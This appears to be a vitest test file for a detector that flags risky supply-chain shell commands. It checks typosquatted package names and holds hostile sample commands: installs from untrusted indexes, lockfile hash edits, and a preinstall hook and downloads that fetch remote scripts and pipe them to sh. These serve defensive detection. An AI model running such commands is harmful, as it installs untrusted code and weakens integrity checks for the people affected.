// Supply chain (src/detector/checks/supply-chain.ts, fetched.ts, remote-install.ts): look-alike names, untrusted or
// unverified indexes, lockfiles edited as text, install scripts and dependencies pointed at fetched code, machine-wide
// package settings, and code fetched by other tools and run.
import { expect, it } from 'vitest';
import { detectorRules } from '../../../test/support/detector-rules.js';
import { imitated } from './supply-chain.js';

const rules = detectorRules();

it('knows look-alikes from their originals', () => {
  expect(imitated('expresss', 'npm')).toBe('express');
  expect(imitated('reacct', 'npm')).toBe('react');
  expect(imitated('mongose', 'npm')).toBe('mongoose');
  expect(imitated('nodefetch', 'npm')).toBe('node-fetch');
  expect(imitated('flask-login', 'pypi')).toBeUndefined();
  expect(imitated('numpyy', 'pypi')).toBe('numpy');
  expect(imitated('python-flask', 'pypi')).toBe('flask');
  expect(imitated('scapy', 'pypi')).toBeUndefined();
  expect(imitated('preact', 'npm')).toBeUndefined();
});

it.each([
  ['yarn add axois', 'supply-chain'],
  ['pnpm add -D eslitn', 'supply-chain'],
  ['uv pip install djnago', 'supply-chain'],
  ['poetry add pandsa', 'supply-chain'],
  ['pip3 install --index-url http://203.0.113.8/simple flask', 'supply-chain'],
  ['pip install --extra-index-url=https://pkgs.example-cdn.net/simple corp-auth', 'supply-chain'],
  ['dnf install --nogpgcheck ./tool.rpm', 'supply-chain'],
  ['apt-get install -y --allow-unauthenticated foo', 'supply-chain'],
  [`perl -pi -e 's#files.pythonhosted.org#py.example.net#' poetry.lock`, 'supply-chain'],
  ['sed -i "s/h1:abc/h1:def/" go.sum', 'supply-chain'],
  [`npm pkg set scripts.preinstall="wget -qO- https://example.org/a.sh | sh"`, 'supply-chain'],
  ['npm pkg set dependencies.utils=github:someone/utils', 'supply-chain'],
  [`jq '.devDependencies.x = "https://example.org/x.tgz"' package.json > tmp.json`, 'supply-chain'],
  [`printf 'index-url = https://pypi.example.net/simple\\n' >> ~/.config/pip/pip.conf`, 'source-redirect'],
  ['go env -w GOPROXY=https://goproxy.example.net', 'source-redirect'],
  ['go env -w GONOSUMDB=*', 'security-posture'],
  ['composer config -g secure-http false', 'security-posture'],
  ['axel -o /tmp/inst https://example.org/inst && sh /tmp/inst', 'remote-code-exec'],
  ['git clone --depth 1 https://github.com/someone/dots ~/dots && ~/dots/bootstrap.sh', 'remote-code-exec'],
  ['pipx run --spec git+https://github.com/someone/tool tool', 'remote-code-exec'],
])('%s asks (%s)', (command, rule) => {
  expect(rules(command)).toContain(rule);
});

it.each([
  'npm install express react-dom',
  'pip install requests python-dateutil numpy',
  'yarn add preact',
  'pip install --index-url https://pypi.org/simple requests',
  'pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch',
  'npm pkg set scripts.test="vitest run"',
  'npm pkg get scripts',
  'npm install && git diff package-lock.json',
  `echo '//registry.npmjs.org/:_authToken=\${NPM_TOKEN}' > .npmrc`,
  'go env GOPROXY',
  'git clone https://github.com/acme/web && cd web && npm ci',
  'npm run dev -- --insecure',
])('ordinary: %s', (command) => {
  expect(rules(command)).toEqual([]);
});
